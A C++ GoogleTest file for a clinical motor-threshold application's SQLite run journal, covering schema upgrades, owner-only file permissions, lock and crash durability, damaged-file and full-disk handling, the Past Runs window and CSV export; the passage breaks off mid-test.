// The journal of runs: its schema and its upgrades, every answer kept as the window takes
// it, a busy journal that holds no key and loses nothing, its failures that never stop an
// assessment, files only their owner reads, Past Runs and the CSV export.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <QDir>
#include <QElapsedTimer>
#include <QProcess>
#include <QSqlError>
#include <QSqlQuery>
#include <QTableWidget>
#include <QThread>
#include <set>
#include <sstream>

#include "cli/replay.h"
#include "core/display/history_line.h"
#include "core/numbers/numbers.h"
#include "core/procedure/credible_interval.h"
#include "core/run/fixed_sequence_method.h"
#include "core/run/run.h"
#include "core/trial/run_start.h"
#include "gui/fakes/main_window_fixture.h"
#include "gui/journal/journal_export.h"
#include "gui/journal/journal_writer.h"
#include "gui/journal/past_runs_window.h"
#include "gui/journal/run_journal.h"
#include "gui/report/output_window.h"
#include "gui/widgets/design.h"
#include "core/console/notices.h"

namespace limenta::testing {
namespace {

// Runs statements on a connection of its own, as another program would; the first column
// of every row the last one gives.
QStringList column(const QString& path, const QStringList& statements) {
    QStringList values;
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"),
                                                    QStringLiteral("journal-test-reader"));
        db.setDatabaseName(path);
        EXPECT_TRUE(db.open());
        QSqlQuery q(db);
        for (const QString& statement : statements) {
            EXPECT_TRUE(q.exec(statement)) << q.lastError().text().toStdString();
        }
        while (q.next()) {
            values << q.value(0).toString();
        }
    }
    QSqlDatabase::removeDatabase(QStringLiteral("journal-test-reader"));
    return values;
}

QStringList column(const QString& path, const QString& statement) {
    return column(path, QStringList{statement});
}

// A journal of an older version, made from its SQL.
void makeJournalOfVersion(int version, const QString& path) {
    QFile sql(QStringLiteral(LIMENTA_JOURNAL_VERSIONS "/journal-v%1.sql").arg(version));
    ASSERT_TRUE(sql.open(QIODevice::ReadOnly)) << sql.fileName().toStdString();
    QStringList statements;
    for (const QString& line : QString::fromUtf8(sql.readAll()).split(QLatin1Char('\n'))) {
        if (!line.isEmpty() && !line.startsWith(QLatin1String("--"))) {
            statements << line;
        }
    }
    column(path, statements);
}

int modeOf(const QString& path) {
    struct stat status {};
    return ::stat(QFile::encodeName(path).constData(), &status) == 0
               ? static_cast<int>(status.st_mode & 0777)
               : -1;
}

// Another program holding the journal in an exclusive transaction, until released.
class Lock {
  public:
    explicit Lock(const QString& path)
        : db_(QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("locker"))) {
        db_.setDatabaseName(path);
        EXPECT_TRUE(db_.open());
        EXPECT_TRUE(QSqlQuery(db_).exec(QStringLiteral("BEGIN EXCLUSIVE")));
    }
    ~Lock() {
        release();
        db_.close();
        db_ = QSqlDatabase();
        QSqlDatabase::removeDatabase(QStringLiteral("locker"));
    }
    Lock(const Lock&) = delete;
    Lock& operator=(const Lock&) = delete;
    void release() {
        if (held_) {
            QSqlQuery(db_).exec(QStringLiteral("COMMIT"));
            held_ = false;
        }
    }

  private:
    QSqlDatabase db_;
    bool held_ = true;
};

class Journal : public MainWindowTest {
  protected:
    void TearDown() override {
        writer.reset();
        MainWindowTest::TearDown();
    }
    [[nodiscard]] QString journalPath() const {
        return dir.filePath(QLatin1String(kJournalFileName));
    }
    void startWriter(const QString& path) {
        writer = std::make_unique<JournalWriter>(path, [this](const QString& notice) {
            notices << notice;
            if (window) {
                window->tell(notice);
            }
        });
        if (window) {
            window->setJournal(writer.get());
        }
    }
    Window1& openWithJournal(const std::optional<std::string>& prefs = defaultPrefsText()) {
        Window1& w = open(prefs);
        startWriter(journalPath());
        return w;
    }
    // Lets the writer's thread take everything it was given, and its notices arrive.
    bool settled(int ms = 5000) {
        QElapsedTimer waited;
        waited.start();
        while (!writer->idle() && waited.elapsed() < ms) {
            QCoreApplication::processEvents();
            QThread::msleep(2);
        }
        QCoreApplication::processEvents();
        return writer->idle();
    }
    // Lets `ms` pass with the event loop running.
    static void pass(int ms) {
        QElapsedTimer waited;
        waited.start();
        while (waited.elapsed() < ms) {
            QCoreApplication::processEvents();
            QThread::msleep(2);
        }
    }
    [[nodiscard]] QStringList fired() const {
        return column(journalPath(),
                      QStringLiteral("SELECT fired FROM answers ORDER BY run_id, trial"));
    }

    std::unique_ptr<JournalWriter> writer;
    QStringList notices;
};

TEST_F(Journal, ASchemaOfItsOwnVersionInWalModeReadableByItsOwnerOnly) {
    Window1& w = openWithJournal();
    ASSERT_TRUE(settled());
    EXPECT_TRUE(notices.isEmpty());
    const QString current = QString::number(RunJournal::kSchemaVersion);
    EXPECT_EQ(column(journalPath(), QStringLiteral("PRAGMA user_version")), QStringList{current});
    EXPECT_EQ(column(journalPath(), QStringLiteral("PRAGMA journal_mode")), QStringList{"wal"});
    EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT name FROM sqlite_master WHERE "
                                                   "type = 'table' ORDER BY name")),
              (QStringList{"answers", "runs"}));
    w.PushButton1->click();
    type("y");
    ASSERT_TRUE(settled());
    for (const char* part : {"", "-wal", "-shm"}) {
        EXPECT_EQ(modeOf(journalPath() + QLatin1String(part)), 0600) << part;
    }
    // An older journal open to others is tightened when Limenta opens it.
    writer.reset();
    ::chmod(QFile::encodeName(journalPath()).constData(), 0644);
    startWriter(journalPath());
    ASSERT_TRUE(settled());
    EXPECT_EQ(modeOf(journalPath()), 0600);
    // A method the table does not know (a later Limenta's) is kept, and shown as unknown,
    // never taken for another method.
    column(journalPath(), QStringLiteral("INSERT INTO runs(uid, started, method, settings) "
                                         "VALUES('later', '2026-12-08T09:30:15Z', 'robust-x', "
                                         "'{}')"));
    const auto stored = RunJournal::open(journalPath(), RunJournal::Access::Read).journal->runs();
    ASSERT_FALSE(stored.empty());
    EXPECT_EQ(stored.front().method, "robust-x");
    EXPECT_EQ(methodName(stored.front().method), "unknown (robust-x)");
    EXPECT_NE(reportFromJournal(stored.front(), {})
                  .indexOf(QLatin1String("\rMethod: unknown (robust-x)\r")),
              -1);
    // A journal written by a later Limenta (a later version) is left alone.
    writer.reset();
    column(journalPath(),
           QStringLiteral("PRAGMA user_version=%1").arg(RunJournal::kSchemaVersion + 1));
    startWriter(journalPath());
    settled();
    EXPECT_EQ(w.notice(), QLatin1String(notice::kJournalNotOpened)
                              .arg(journalPath(), QStringLiteral("the journal was written by a "
                                                                 "newer Limenta")));
    EXPECT_TRUE(writer->ended());
    EXPECT_EQ(column(journalPath(), QStringLiteral("PRAGMA user_version")),
              QStringList{QString::number(RunJournal::kSchemaVersion + 1)});
}

TEST_F(Journal, AJournalOfEveryOlderVersionIsUpgradedInPlaceStepByStep) {
    for (int version = 1; version < RunJournal::kSchemaVersion; ++version) {
        SCOPED_TRACE(version);
        QFile::remove(journalPath());
        makeJournalOfVersion(version, journalPath());
        ASSERT_EQ(column(journalPath(), QStringLiteral("PRAGMA user_version")),
                  QStringList{QString::number(version)});
        RunJournal::Opened opened = RunJournal::open(journalPath(), RunJournal::Access::Write);
        ASSERT_TRUE(opened.journal) << opened.problem.toStdString();
        EXPECT_EQ(column(journalPath(), QStringLiteral("PRAGMA user_version")),
                  QStringList{QString::number(RunJournal::kSchemaVersion)});
        // Its runs and answers as they were, and room for new ones.
        const std::vector<JournalRun> runs = opened.journal->runs();
        ASSERT_EQ(runs.size(), 1U);
        EXPECT_EQ(runs[0].note, "P-003");
        EXPECT_EQ(runs[0].estimate, 41.6875);
        // Every answer kept, numbered in the order of its trial.
        const std::vector<JournalAnswer> answers = opened.journal->answers(runs[0].id);
        ASSERT_EQ(answers.size(), 2U);
        for (std::size_t i = 0; i < answers.size(); ++i) {
            EXPECT_EQ(answers[i].trial, static_cast<int>(i) + 1);
            EXPECT_EQ(answers[i].seq, answers[i].trial);
            EXPECT_TRUE(answers[i].withdrawnAt.isNull());
        }
        EXPECT_EQ(runs[0].pulses, 2);
        EXPECT_EQ(runs[0].fired, 2);
        EXPECT_FALSE(runs[0].practice);  // every older run was a patient's
        EXPECT_FALSE(runs[0].trueThreshold);
        JournalRun later;
        later.uid = QStringLiteral("later");
        later.started = QStringLiteral("2026-12-09T10:00:00Z");
        later.settings = QStringLiteral("{}");
        later.method = QStringLiteral("pest");
        later.practice = true;
        later.trueThreshold = 47.25;
        EXPECT_TRUE(opened.journal->write({JournalWrite::start(later)}));
        const std::vector<JournalRun> now = opened.journal->runs();
        ASSERT_EQ(now.size(), 2U);
        EXPECT_TRUE(now[0].practice);
        EXPECT_EQ(now[0].trueThreshold, 47.25);
    }
}

TEST_F(Journal, EveryAnswerIsKeptAsTheWindowTakesItForBothMethods) {
    Window1& w = openWithJournal();
    w.PushButton1->click();
    type("yynnyny");
    ASSERT_EQ(w.state().myrmt, 41.6875);
    ASSERT_TRUE(settled());
    EXPECT_EQ(fired(), (QStringList{"50", "43", "36", "39.5", "43", "41.25", "42.125"}));
    EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT estimate FROM runs")),
              QStringList{"41.6875"});
    EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT method || ended FROM runs")),
              QStringList{"pest2026-12-08T09:30:15Z"});
    const QStringList settings = column(journalPath(), QStringLiteral("SELECT settings FROM runs"));
    EXPECT_EQ(settings, QStringList{R"({"diff_threshold":".45","initial_output":"50","method":)"
                                    R"("pest","step_size":"7"})"});
    // An answer after the end is kept too, and the run's end moves with it.
    fake.clocks.now = fake.clocks.now.addSecs(60);
    type("n");
    ASSERT_TRUE(settled());
    EXPECT_EQ(fired().size(), 8);
    EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT ended FROM runs")),
              QStringList{"2026-12-08T09:31:15Z"});

    // Reset, then an ML-PEST run: a second row with its own answers.
    w.PushButton3->click();
    choose("ml");
    w.PushButton1->click();
    type("nyny");
    ASSERT_TRUE(settled());
    EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT method FROM runs ORDER BY id")),
              (QStringList{"pest", "ml"}));
    EXPECT_EQ(
        column(journalPath(), QStringLiteral("SELECT COUNT(*) FROM answers WHERE run_id = 2")),
        QStringList{"4"});
    EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT fired FROM answers WHERE run_id = 2 "
                                                   "AND trial = 1")),
              QStringList{QString::number(w.state().teststim)});
    // Print/Save stores the report the operator saw.
    w.PushButton4->click();
    ASSERT_TRUE(settled());
    EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT report FROM runs WHERE id = 2")),
              QStringList{w.outputWindow()->EditField1->text()});
}

TEST_F(Journal, AnMlPestRunEstimatesEverywhereWithTheSpreadTypedAtStart) {
    // Preferences keep 7; the operator types another spread, which the whole run uses.
    for (const auto& [typed, spread] : {std::pair{"10", 10}, {"7,5", 8}}) {
        SCOPED_TRACE(typed);
        Window1& w = openWithJournal(prefsWith({{kPrefsUseMlPest, "1"}}));
        ASSERT_EQ(w.preferences().whole(kPrefsSpread), 7);
        w.EditField3->setText(QString::fromLatin1(typed));
        w.PushButton1->click();
        limenta::Run expected(
            *findMethod(methods(), "ml"),
            {{"spread", std::to_string(spread)},
             {"diff", PrefsText(defaultPrefsText()).field(kPrefsMlDiffThreshold)}});
        EXPECT_EQ(w.state().curstim, expected.state().curstim);
        for (const char key : std::string("nynnyynyny")) {
            type(std::string(1, key));
            expected.answer(key == 'y' ? 1 : 0, 0);
            ASSERT_EQ(w.state().curstim, expected.state().curstim);
        }
        ASSERT_TRUE(settled());
        const auto interval = credibleInterval(firedAnswers(expected.trials()), spread);
        ASSERT_TRUE(interval && w.run()->interval());
        EXPECT_EQ(w.run()->interval()->low, interval->low);
        EXPECT_DOUBLE_EQ(column(journalPath(), QStringLiteral("SELECT interval_low FROM runs"))
                             .value(0)
                             .toDouble(),
                         interval->low);
        EXPECT_DOUBLE_EQ(column(journalPath(), QStringLiteral("SELECT interval_high FROM runs"))
                             .value(0)
                             .toDouble(),
                         interval->high);
        EXPECT_NE(column(journalPath(), QStringLiteral("SELECT settings FROM runs"))[0].indexOf(
                      QStringLiteral("\"spread\":\"%1\"").arg(spread)),
                  -1);
        w.PushButton4->click();
        ASSERT_TRUE(settled());
        EXPECT_NE(w.outputWindow()->EditField1->text().indexOf(
                      QStringLiteral("\rSpread = %1\r").arg(spread)),
                  -1);
        writer.reset();
        window.reset();
        QFile::remove(journalPath());
    }
}

// A program that shows answers and is killed loses none of them: 200 ms after its last
// answer on a free journal, and while another program holds the journal.
TEST_F(Journal, AProgramKilledLosesNoAnswerItShowedLockOrNoLock) {
    for (const bool locked : {false, true}) {
        SCOPED_TRACE(locked ? "during a lock" : "without a lock");
        QFile::remove(journalPath());
        ASSERT_TRUE(RunJournal::open(journalPath(), RunJournal::Access::Write).journal);
        std::optional<Lock> lock;
        if (locked) {
            lock.emplace(journalPath());
        }
        QProcess child;
        child.start(QStringLiteral(LIMENTA_JOURNAL_CHILD), {journalPath(), QStringLiteral("5")});
        QByteArray shown;
        while (!shown.contains("done") && child.waitForReadyRead(5000)) {
            shown += child.readAllStandardOutput();
        }
        ASSERT_TRUE(shown.contains("shown 5\ndone")) << shown.toStdString();
        QThread::msleep(200);
        child.kill();
        ASSERT_TRUE(child.waitForFinished(5000));
        ASSERT_EQ(child.exitStatus(), QProcess::CrashExit);
        if (lock) {
            EXPECT_GT(QFileInfo(journalPath() + QStringLiteral("-waiting")).size(), 0);
            EXPECT_TRUE(fired().isEmpty());
            lock.reset();  // the lock ends; the next start writes what waited
        }
        startWriter(journalPath());
        ASSERT_TRUE(settled());
        EXPECT_EQ(fired(), (QStringList{"49", "48", "47", "46", "45"}));
        writer.reset();
        EXPECT_EQ(QFileInfo(journalPath() + QStringLiteral("-waiting")).size(), 0);
    }
}

// Another program holds the journal in an exclusive transaction for longer than the
// writer waits: no key waits for it, and every answer, the end and the report reach the
// journal once the lock ends. Also with the lock already there at start-up, on a journal
// of the version before, which needs an upgrade.
TEST_F(Journal, ABusyJournalHoldsNoKeyAndEveryAnswerReachesItWhenFree) {
    struct Case {
        const char* name;
        std::string prefs;
        const char* keys;
        bool atStartUp;
    };
    const std::vector<Case> cases{
        {"adaptive PEST", defaultPrefsText(), "yynnyny", false},
        {"ML-PEST", prefsWith({{kPrefsUseMlPest, "1"}}), "nynnyynynyynynynnyny", false},
        {"at start-up", defaultPrefsText(), "yynnyny", true}};
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        writer.reset();
        QFile::remove(journalPath());
        std::optional<Lock> lock;
        if (c.atStartUp) {
            makeJournalOfVersion(1, journalPath());
            lock.emplace(journalPath());
        }
        Window1& w = openWithJournal(c.prefs);
        if (!c.atStartUp) {
            ASSERT_TRUE(settled());
            lock.emplace(journalPath());
        }
        w.PushButton1->click();
        qint64 longest = 0;
        for (const char key : std::string(c.keys)) {
            QElapsedTimer held;
            held.start();
            type(std::string(1, key));
            longest = std::max(longest, held.elapsed());
        }
        EXPECT_LT(longest, 50) << "ms for the slowest key";
        w.PushButton4->click();  // a report, while the journal is still busy
        pass(300);
        EXPECT_EQ(w.notice(), notice::kJournalWaiting);
        EXPECT_FALSE(writer->idle());

        lock.reset();
        ASSERT_TRUE(settled());
        EXPECT_EQ(w.notice(), notice::kJournalWritten);
        const QString run = QStringLiteral(" FROM runs ORDER BY id DESC LIMIT 1");
        EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT (SELECT COUNT(*) FROM answers "
                                                       "WHERE run_id = runs.id)") +
                                            run),
                  QStringList{QString::number(w.state().stepnum)});
        EXPECT_EQ(
            column(journalPath(), QStringLiteral("SELECT estimate") + run).value(0).toDouble(),
            w.state().myrmt);
        EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT report") + run),
                  QStringList{w.outputWindow()->EditField1->text()});
        EXPECT_EQ(column(journalPath(), QStringLiteral("PRAGMA user_version")),
                  QStringList{QString::number(RunJournal::kSchemaVersion)});
        EXPECT_FALSE(writer->ended());
    }
}

TEST_F(Journal, AJournalThatCannotBeOpenedLeavesTheAssessmentRunningWithOneMessage) {
    Window1& w = open();
    // Its folder is a file: nothing can be created there.
    const QString blocked = dir.filePath(QStringLiteral("blocked"));
    QFile(blocked).open(QIODevice::WriteOnly);
    startWriter(RunJournal::besidePrefs(blocked + QStringLiteral("/PREFS")));
    settled();
    EXPECT_TRUE(writer->ended());
    EXPECT_TRUE(w.notice().startsWith(
        QLatin1String("Runs are not being kept: print or save each report. The journal ")))
        << w.notice().toStdString();
    EXPECT_EQ(notices.size(), 1);
    w.PushButton1->click();
    type("yyn");
    EXPECT_EQ(w.state().stepnum, 3);
    fake.dialogs.askAnswer = false;
    w.close();  // asks, and names what is lost
    ASSERT_EQ(fake.dialogs.questions.size(), 1U);
    EXPECT_EQ(fake.dialogs.questions[0],
              "A run is in progress. Quit anyway? Its answers will be lost unless you print or "
              "save the report.");
    EXPECT_TRUE(w.isVisible());  // Cancel
}

TEST_F(Journal, ADamagedFileIsPutAsideUnchangedAndAFreshOneStarted) {
    {
        QFile damaged(journalPath());
        ASSERT_TRUE(damaged.open(QIODevice::WriteOnly));
        damaged.write(QByteArray("not a journal at all, but last year's runs maybe").repeated(100));
    }
    Window1& w = openWithJournal();
    ASSERT_TRUE(settled());
    ASSERT_EQ(notices.size(), 1);
    const QString told = notices[0];
    EXPECT_TRUE(told.startsWith(QLatin1String(
        "The run journal was damaged, so a new one was started. The damaged file is kept as ")));
    const QString aside = told.section(QLatin1Char(' '), -1).chopped(1);
    QFile kept(aside);
    ASSERT_TRUE(kept.open(QIODevice::ReadOnly)) << aside.toStdString();
    EXPECT_TRUE(kept.readAll().startsWith("not a journal at all"));
    w.PushButton1->click();
    type("y");
    ASSERT_TRUE(settled());
    EXPECT_EQ(fired(), QStringList{"50"});
}

TEST_F(Journal, AFullDiskStopsTheJournalNotTheRun) {
    const QString mount = dir.filePath(QStringLiteral("small"));
    QDir().mkpath(mount);
    const QByteArray command = "mount -t tmpfs -o size=256k limenta-test " + mount.toLocal8Bit();
    if (::geteuid() != 0 || std::system((command + " 2>/dev/null").constData()) != 0) {
        GTEST_SKIP() << "no small tmpfs could be mounted (needs root)";
    }
    Window1& w = open();
    startWriter(RunJournal::besidePrefs(mount + QStringLiteral("/PREFS")));
    ASSERT_TRUE(settled());
    w.PushButton1->click();
    ASSERT_TRUE(settled());
    std::system(
        ("dd if=/dev/zero of=" + mount.toLocal8Bit() + "/filler bs=4k 2>/dev/null").constData());
    type("yynnyny");
    EXPECT_EQ(w.state().myrmt, 41.6875);  // the run went on
    settled();
    EXPECT_TRUE(writer->ended());
    EXPECT_TRUE(w.notice().startsWith(QLatin1String(
        "The run journal could not be written: print or save the report to keep this run.")))
        << w.notice().toStdString();
    writer.reset();
    window.reset();
    std::system(("umount " + mount.toLocal8Bit()).constData());
}

TEST_F(Journal, PastRunsListsReopensAndExports) {
    Window1& w = openWithJournal();
    w.PushButton1->click();
    type("yynnyny");
    w.PushButton3->click();
    fake.clocks.now = fake.clocks.now.addDays(1);
    w.PushButton1->click();
    type("yy");
    ASSERT_TRUE(settled());
    w.showPastRuns();
    auto* past = w.findChild<PastRunsWindow*>();
    ASSERT_NE(past, nullptr);
    QTableWidget* table = past->table;
    ASSERT_EQ(table->rowCount(), 2);
    EXPECT_EQ(table->item(0, PastRunsWindow::kWhen)->text(), "2026-12-09  09:30:15");  // newest
    EXPECT_EQ(table->item(1, PastRunsWindow::kEstimate)->text(), "41.69");
    EXPECT_EQ(table->item(1, PastRunsWindow::kPulses)->text(), "7");
    EXPECT_EQ(table->item(0, PastRunsWindow::kEstimate)->text(), "--");

    // The note is kept in the journal.
    table->item(1, PastRunsWindow::kNote)->setText(QStringLiteral("P-017, left hand"));
    ASSERT_TRUE(settled());
    EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT note FROM runs WHERE id = 1")),
              QStringList{"P-017, left hand"});

    // The first run has no stored report: it is composed from the journal.
    table->selectRow(1);
    const QString report = w.outputWindow()->EditField1->text();
    EXPECT_NE(report.indexOf(QLatin1String("Resting Motor Threshold = 42")), -1)
        << report.toStdString();
    EXPECT_NE(report.indexOf(QLatin1String("07   042.13   042   1.0   00.4375")), -1);
    EXPECT_NE(report.indexOf(QLatin1String("Starting Value = 50")), -1);

    // Export: the selected run, one row per answer, the note quoted; a name without an
    // extension gets one, and the file is its owner's alone.
    const QString csvPath = dir.filePath(QStringLiteral("runs.csv"));
    fake.dialogs.saveAnswer = dir.filePath(QStringLiteral("runs"));
    past->exportCsv();
    EXPECT_EQ(fake.dialogs.offeredFilters, std::vector<QString>{"CSV files (*.csv)"});
    EXPECT_EQ(modeOf(csvPath), 0600);
    QFile csv(csvPath);
    ASSERT_TRUE(csv.open(QIODevice::ReadOnly));
    const QList<QByteArray> lines = csv.readAll().split('\n');
    ASSERT_EQ(lines.size(), 9);  // header, 7 answers, the empty end
    EXPECT_TRUE(lines[1].startsWith("1,2026-12-08T09:30:15Z,2026-12-08T09:30:15Z,pest,"));
    EXPECT_TRUE(lines[7].contains(",\"P-017, left hand\",7,42.125,1,41.6875,0.4375,"));

    // Quitting the second run asks, and says it is kept.
    w.close();
    ASSERT_EQ(fake.dialogs.questions.size(), 1U);
    EXPECT_EQ(fake.dialogs.questions[0],
              "A run is in progress. Quit anyway? It is kept in Past Runs.");
    EXPECT_FALSE(w.isVisible());
}

// An answer taken back stays in the journal, marked with the time it was taken back; the
// answer given again is a row of its own; the run's end and estimate follow both ways.
TEST_F(Journal, AnAnswerTakenBackIsKeptMarkedAndTheRunsEndFollowsIt) {
    Window1& w = openWithJournal();
    const auto later = [this] { fake.clocks.now = fake.clocks.now.addSecs(60); };
    const auto answers = [this] {
        return column(journalPath(), QStringLiteral("SELECT seq || ' ' || trial || ' ' || "
                                                    "IFNULL(withdrawn_at, '-') FROM answers "
                                                    "ORDER BY seq"));
    };
    const auto end = [this] {
        return column(journalPath(),
                      QStringLiteral("SELECT IFNULL(estimate, '-') || ' ' || IFNULL(ended, '-') "
                                     "FROM runs"));
    };
    w.PushButton1->click();
    type("yynnyny");  // the end, at 09:30:15
    later();
    w.undoLastAnswer();
    w.undoLastAnswer();  // the one before it
    ASSERT_TRUE(settled());
    EXPECT_EQ(answers().mid(5),
              (QStringList{"6 6 2026-12-08T09:31:15Z", "7 7 2026-12-08T09:31:15Z"}));
    EXPECT_EQ(end(), QStringList{"- -"});
    later();
    type("ny");  // the end again, at 09:32:15
    later();
    type("y");  // after it, at 09:33:15
    ASSERT_TRUE(settled());
    EXPECT_EQ(end(), QStringList{"41.25 2026-12-08T09:33:15Z"});
    w.undoLastAnswer();
    ASSERT_TRUE(settled());
    EXPECT_EQ(end(), QStringList{"41.6875 2026-12-08T09:32:15Z"});
    EXPECT_EQ(answers().mid(7), (QStringList{"8 6 -", "9 7 -", "10 8 2026-12-08T09:33:15Z"}));

    // Past Runs counts the answers kept and the pulses fired; its report and the window's
    // say how many answers were taken back, and neither lists them.
    w.PushButton4->click();
    const QString shownReport = w.outputWindow()->EditField1->text();
    EXPECT_NE(shownReport.indexOf(QLatin1String("\rAnswers withdrawn = 3\r")), -1);
    w.PushButton3->click();
    w.showPastRuns();
    auto* past = w.findChild<PastRunsWindow*>();
    ASSERT_NE(past, nullptr);
    EXPECT_EQ(past->table->item(0, PastRunsWindow::kPulses)->text(), "7 (10 fired)");
    const RunJournal::Opened opened = RunJournal::open(journalPath(), RunJournal::Access::Read);
    ASSERT_TRUE(opened.journal) << opened.problem.toStdString();
    const JournalRun run = opened.journal->runs().front();
    const QString composed = reportFromJournal(run, opened.journal->answers(run.id));
    EXPECT_NE(composed.indexOf(QLatin1String("\rAnswers withdrawn = 3\r")), -1);
    EXPECT_EQ(composed.section(QLatin1String("HISTORY:"), 1), shownReport.section("HISTORY:", 1));

    // The CSV keeps every answer, with the time each taken back was.
    const QString csvPath = dir.filePath(QStringLiteral("undo.csv"));
    fake.dialogs.saveAnswer = csvPath;
    past->table->selectRow(0);
    past->exportCsv();
    QFile csv(csvPath);
    ASSERT_TRUE(csv.open(QIODevice::ReadOnly));
    const QList<QByteArray> lines = csv.readAll().split('\n');
    ASSERT_EQ(lines.size(), 12);  // header, 10 answers, the empty end
    EXPECT_TRUE(lines[6].endsWith(",0,2026-12-08T09:31:15Z,0,\r")) << lines[6].toStdString();
    EXPECT_TRUE(lines[8].endsWith(",0,,0,\r")) << lines[8].toStdString();
}

// RFC 4180: fields split on commas, quoted fields may hold commas, quotes and line ends.
std::vector<QStringList> parseCsv(const QString& text) {
    std::vector<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == QLatin1Char('"') && i + 1 < text.size() && text[i + 1] == QLatin1Char('"')) {
                field += c;
                ++i;
            } else if (c == QLatin1Char('"')) {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == QLatin1Char('"')) {
            quoted = true;
        } else if (c == QLatin1Char(',')) {
            row << field;
            field.clear();
        } else if (c == QLatin1Char('\r') && i + 1 < text.size() &&
                   text[i + 1] == QLatin1Char('\n')) {
            row << field;
            field.clear();
            rows.push_back(row);
            row.clear();
            ++i;
        } else {
            field += c;
        }
    }
    return rows;
}

// Every method of the table, and the tests' own, kept under its key with its answers and
// read back: a method the journal's table knows by its name and its report, another as
// unknown, never as some other method.
TEST_F(Journal, EveryMethodIsKeptUnderItsKeyAndReadBackAsItself) {
    RunJournal::Opened opened = RunJournal::open(journalPath(), RunJournal::Access::Write);
    ASSERT_TRUE(opened.journal) << opened.problem.toStdString();
    for (const Method& m : withFixedSequence()) {
        limenta::Run run(m, {});
        JournalRun row;
        row.uid = QLatin1String(m.key);
        row.method = QLatin1String(m.key);
        row.started = QStringLiteral("2026-12-09T10:00:00Z");
        row.settings = QStringLiteral("{}");
        std::vector<JournalWrite> writes{JournalWrite::start(row)};
        for (int k = 0; k < 4 && !run.reached(); ++k) {
            run.answer(k % 2, 0);
            const TrialRecord& t = run.trials().back();
            writes.push_back(JournalWrite::taken(
                row, {t.trial, t.fired, t.answer, t.next, t.diff, QStringLiteral("t")}));
        }
        ASSERT_TRUE(opened.journal->write(writes)) << opened.journal->lastProblem().toStdString();
    }
    const std::vector<JournalRun> runs = opened.journal->runs();
    ASSERT_EQ(runs.size(), withFixedSequence().size());
    for (const JournalRun& run : runs) {
        const Method* known = findMethod(methods(), run.method.toStdString());
        EXPECT_EQ(run.pulses, static_cast<int>(opened.journal->answers(run.id).size()));
        EXPECT_EQ(methodName(run.method), known != nullptr
                                              ? QString::fromLatin1(known->name)
                                              : QStringLiteral("unknown (%1)").arg(run.method));
        const QString report = reportFromJournal(run, opened.journal->answers(run.id));
        EXPECT_NE(report.indexOf(QStringLiteral("\rMethod: %1\r")
                                     .arg(known != nullptr ? QString::fromLatin1(known->reportName)
                                                           : methodName(run.method))),
                  -1)
            << run.method.toStdString();
    }
    const std::vector<QStringList> rows = parseCsv(journalCsv(*opened.journal, runs));
    std::set<QString> keys;
    for (std::size_t r = 1; r < rows.size(); ++r) {
        keys.insert(rows[r][3]);
    }
    EXPECT_EQ(keys.size(), withFixedSequence().size());
    EXPECT_EQ(keys.count(QStringLiteral("fixed")), 1U);
}

// The Bayesian procedure in the window: each next output, the end and the interval as
// limenta-sim replay gives them for the same answers, answers after the end, the report, the
// journal and the CSV; and a run that ends above what the stimulator gives.
TEST_F(Journal, ABayesianRunOnScreenIsTheRunLimentaSimReplays) {
    Window1& w = openWithJournal();
    choose("bayes");
    w.PushButton1->click();
    EXPECT_EQ(big(), "51");
    const std::string answers = "nyynynyynyyny";
    std::string digits = answers;
    std::replace(digits.begin(), digits.end(), 'y', '1');
    std::replace(digits.begin(), digits.end(), 'n', '0');
    std::ostringstream replayed;
    std::ostringstream ignored;
    ASSERT_EQ(
        cli::replayCommand({"--method", "bayes", "--answers", digits, "--json"}, replayed, ignored),
        0);
    const std::string json = replayed.str();
    std::size_t at = 0;
    double next = 0;  // the posterior's median after each answer
    for (const char key : answers) {
        type(std::string(1, key));
        at = json.find(R"("next":)", at) + 7;
        next = std::stod(json.substr(at));
        const bool reached = json.compare(json.find(R"("reached":)", at) + 10, 4, "true") == 0;
        EXPECT_EQ(big(), reached && w.run()->aboveMaximum() ? "100+"
                                                            : QString::number(nearestWhole(next)));
        EXPECT_EQ(textColour(w.StaticText4), reached ? kDesignGreen : kDesignBlack);
    }
    ASSERT_TRUE(w.run()->reached());
    const std::size_t interval = json.find(R"("interval":{"low":)");
    const CredibleInterval last{std::stod(json.substr(interval + 18)), next,
                                std::stod(json.substr(json.find(R"("high":)", interval) + 7))};
    EXPECT_EQ(w.StaticText20->text().toStdString(), intervalLine(last, w.state().stepnum));
    EXPECT_EQ(fake.sounds.fake("ding2").plays, 1);
    EXPECT_NE(w.StaticText7->text(), "");  // the quick reference of the estimate
    // The history: the whole percent fired, and the interval's width as the difference.
    EXPECT_TRUE(history().startsWith(QStringLiteral("13   0%1.00   0%1   1.0   ")
                                         .arg(nearestWhole(w.run()->trials().back().fired))));
    // An answer after the end is taken as any other.
    type("y");
    EXPECT_EQ(w.state().stepnum, 14);

    w.PushButton4->click();
    const QString report = w.outputWindow()->EditField1->text();
    EXPECT_NE(report.indexOf(QLatin1String("\rMethod: Bayesian\rSpread = 7\rWidth = .11\r\r")), -1)
        << report.toStdString();
    EXPECT_NE(report.indexOf(QLatin1String("\r95% Interval = ")), -1);
    ASSERT_TRUE(settled());
    EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT method || ' ' || settings FROM runs")),
              QStringList{R"(bayes {"method":"bayes","spread":"7","width":".11"})"});
    EXPECT_EQ(fired().size(), 14);

    // No MEP at any output: the posterior piles up against 100, and the run ends above it.
    w.PushButton3->click();
    w.PushButton1->click();
    for (int k = 0; k < 10 && !w.run()->reached(); ++k) {
        type("n");
    }
    ASSERT_TRUE(w.run()->aboveMaximum());
